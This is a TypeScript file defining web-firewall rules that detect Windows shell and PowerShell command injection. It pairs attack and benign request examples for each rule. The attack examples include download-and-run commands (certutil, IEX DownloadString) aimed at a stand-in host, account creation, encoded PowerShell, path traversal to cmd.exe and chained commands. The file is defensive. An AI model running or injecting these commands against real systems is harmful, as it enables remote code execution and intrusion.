import type { Detector } from '../detectors/detector.ts'
import { powerShell, windowsShell } from '../detectors/windows/windows-shell.ts'
import type { Component } from '../inspected-value.ts'
import { detectorRule } from './detector-rule.ts'
import { inCookie, inForm, inHeader, inJson, inQuery, inTarget } from './examples.ts'
import type { ManagedRule, ManagedRuleGroup, RequestExample } from './rule.ts'

const prose = 'Type the name & press enter; the net result | the set of more'

function rule(
  [name, label]: readonly [name: string, label: string],
  components: Component[],
  detector: Detector,
  examples: readonly [RequestExample[], RequestExample[]],
): ManagedRule {
  return detectorRule({
    name,
    label,
    components,
    detectors: [detector],
    examples: { attack: examples[0], benign: examples[1] },
  })
}

/** Requests that would run a command on a Windows machine. */
export const windows: ManagedRuleGroup = {
  vendorName: 'AWS',
  name: 'AWSManagedRulesWindowsRuleSet',
  version: 'Version_1.0',
  description: 'Stops requests that would run commands of Windows or of PowerShell.',
  capacity: 200,
  labelNamespace: 'awswaf:managed:aws:windows-os:',
  rules: [
    rule(
      ['WindowsShellCommands_COOKIE', 'WindowsShellCommands_Cookie'],
      ['cookies'],
      windowsShell,
      [[inCookie('1 & whoami')], [inCookie('a&b')]],
    ),
    rule(
      ['WindowsShellCommands_QUERYARGUMENTS', 'WindowsShellCommands_QueryArguments'],
      ['queryArguments'],
      windowsShell,
      [
        [
          inQuery('a & dir c:\\'),
          inQuery('cmd.exe /c ver'),
          inQuery('p^o^w^ershell -c 1'),
          inQuery('| net user a b /add'),
          inQuery('%COMSPEC% /c dir'),
        ],
        [inQuery(prose), inQuery('AT&T'), inQuery('100% & more')],
      ],
    ),
    rule(['WindowsShellCommands_BODY', 'WindowsShellCommands_Body'], ['body'], windowsShell, [
      [inForm('x && ipconfig /all'), inJson('certutil -urlcache -f http://198.51.100.4/a a.exe')],
      [inForm(prose), inJson('C:\\Users\\me\\notes.txt')],
    ]),
    rule(
      ['WindowsShellCommands_HEADER', 'WindowsShellCommands_Header'],
      ['headers'],
      windowsShell,
      [
        [inHeader('x-forwarded-for', '1.1.1.1 & ping -n 5 127.0.0.1')],
        [inHeader('user-agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36')],
      ],
    ),
    rule(
      ['WindowsShellCommands_QUERYSTRING', 'WindowsShellCommands_QueryString'],
      ['queryArguments'],
      windowsShell,
      [[inTarget('/?a=b%26%26type%20c:%5Cboot.ini')], [inTarget('/?type=a&dir=b')]],
    ),
    rule(
      ['WindowsShellCommands_URIPATH', 'WindowsShellCommands_URIPath'],
      ['uriPath'],
      windowsShell,
      [[inTarget('/scripts/..%255c../winnt/system32/cmd.exe')], [inTarget('/windows/download')]],
    ),
    rule(['PowerShellCommands_COOKIE', 'PowerShellCommands_Cookie'], ['cookies'], powerShell, [
      [inCookie('powershell -enc SQBFAFgA')],
      [inCookie('power-shell')],
    ]),
    rule(
      ['PowerShellCommands_QUERYARGUMENTS', 'PowerShellCommands_QueryArguments'],
      ['queryArguments'],
      powerShell,
      [
        [
          inQuery("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a')"),
          inQuery('powershell.exe -nop -w hidden -c dir'),
        ],
        [
          inQuery('PowerShell in a month of lunches'),
          inQuery('get-together'),
          inQuery('start-up costs'),
        ],
      ],
    ),
    rule(['PowerShellCommands_BODY', 'PowerShellCommands_Body'], ['body'], powerShell, [
      [
        inForm('Invoke-WebRequest -Uri http://198.51.100.4/a'),
        inJson('Get-Process | Stop-Process'),
      ],
      [inForm('We write about PowerShell, and what Get-Process shows.')],
    ]),
  ],
}
